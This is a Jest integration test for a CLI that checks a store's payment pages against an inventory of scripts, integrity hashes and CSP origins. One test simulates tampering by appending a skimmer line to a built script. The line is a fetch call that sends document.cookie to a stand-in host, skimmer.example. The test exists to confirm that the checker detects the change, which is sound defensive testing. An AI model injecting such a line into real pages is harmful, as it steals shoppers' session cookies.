import { execFile } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { PaymentPageChecks } from '../../server/integrity/payment-page-checks';
import { PATHS } from '../../server/paths';
import { startRunningStore, type RunningStoreHandle } from '../support/running-store';
import { useTeardown } from '../support/teardown';

// `npm run check:payment-pages` (the built CLI, as npm runs it after `build:server`) against a
// store running with real listeners, the way a merchant's cron job runs it.

const CLI = path.join(__dirname, '..', '..', 'dist', 'server', 'payment-page-check-cli.js');

interface Run {
  code: number;
  stdout: string;
  stderr: string;
}

/** The sandboxes' origins, from the store's start-up log line that names them. */
function sandboxArgs(store: RunningStoreHandle): string[] {
  const line = store.logLines.map((l) => JSON.parse(l) as { msg?: string; sandboxes?: Record<string, string> }).find((l) => l.sandboxes);
  if (!line?.sandboxes) throw new Error('the store logged no sandbox origins');
  return Object.entries(line.sandboxes).flatMap(([name, origin]) => ['--sandbox', `${name}=${origin}`]);
}

function runCli(store: RunningStoreHandle, args: string[]): Promise<Run> {
  const database = store.config.database;
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [CLI, ...args],
      {
        env: {
          PATH: process.env.PATH ?? '',
          NODE_ENV: 'test',
          DATA_DIR: store.dataDir,
          DATABASE_URL: database.kind === 'sqlite' ? `sqlite:${database.file}` : database.url,
          PUBLIC_URL: store.publicUrl,
          // The store's generated development certificate, as the README tells a developer to trust it.
          NODE_EXTRA_CA_CERTS: path.join(store.dataDir, 'tls', 'localhost-cert.pem'),
        },
      },
      (error, stdout, stderr) => resolve({ code: error ? Number(error.code ?? 1) : 0, stdout, stderr }),
    );
  });
}

describe('npm run check:payment-pages', () => {
  const teardown = useTeardown();
  let store: RunningStoreHandle;
  beforeAll(async () => {
    store = await teardown.track(startRunningStore(), (s) => s.stop());
  });
  const last = () => new PaymentPageChecks(store.dataSource).last();

  it('fetches the running store’s payment pages, finds them as the inventory says, and records it', async () => {
    const run = await runCli(store, sandboxArgs(store));
    expect(run.stderr).toBe('');
    expect(run.stdout).toBe(
      `Payment pages of ${store.publicUrl}: checkout-form, pay-step, order-status\nOK: every script and header matches the payment-page inventory.\n`,
    );
    expect(run.code).toBe(0);
    expect(await last()).toMatchObject({ ok: true, store: store.publicUrl, findings: [], error: null });
  });

  it('reports a built script changed after the build, exits 1 and records the drift', async () => {
    // Tampered on disk while the store runs, as an attacker with write access to the server would.
    // The build folder is shared, so it is restored at once (the suite runs in band: `npm test`).
    const script = path.join(PATHS.publicBuild, 'secure-context.js');
    const original = fs.readFileSync(script);
    let run: Run;
    try {
      fs.writeFileSync(script, Buffer.concat([original, Buffer.from('\nfetch("https://skimmer.example/"+document.cookie);')]));
      run = await runCli(store, sandboxArgs(store));
    } finally {
      fs.writeFileSync(script, original);
    }
    expect(run.code).toBe(1);
    for (const page of ['checkout-form', 'pay-step', 'order-status'])
      expect(run.stdout).toMatch(
        new RegExp(
          `DRIFT ${page}: loads /assets/secure-context\\.js with integrity sha384-\\S+ but the bytes served there hash to sha384-`,
        ),
      );
    expect(run.stdout).toMatch(/DRIFT: the payment pages differ from the inventory\.\n$/);
    const check = await last();
    expect(check).toMatchObject({ ok: false, error: null });
    expect(check!.findings).toHaveLength(3);
  });

  it('reports a store whose policy no longer matches the inventory (a gateway origin changed)', async () => {
    const args = sandboxArgs(store).map((a) => (a.startsWith('braintree=') ? 'braintree=https://127.0.0.1:1' : a));
    const run = await runCli(store, args);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(
      /DRIFT pay-step: its Content-Security-Policy has frame-src "https:\/\/[^"]+"; the inventory gives "https:\/\/127\.0\.0\.1:1"/,
    );
  });

  it('records a check that could not fetch the pages as failed, with the reason', async () => {
    const run = await runCli(store, [...sandboxArgs(store), '--return-url', 'https://not-an-embed-origin.example/']);
    expect(run.code).toBe(1);
    expect(run.stderr).toMatch(
      /could not be checked: Starting a checkout returning to https:\/\/not-an-embed-origin\.example\/: the store answered 400/,
    );
    expect(await last()).toMatchObject({ ok: false, error: expect.stringMatching(/the store answered 400/) });
  });

  it('refuses to run without the sandbox origins it cannot know (exit 2), storing nothing', async () => {
    const before = await last();
    const run = await runCli(store, []);
    expect(run.code).toBe(2);
    expect(run.stderr).toMatch(/stripe runs on the local sandbox: give its origin with --sandbox stripe=https:\/\/…/);
    expect(await last()).toEqual(before);
  });
});
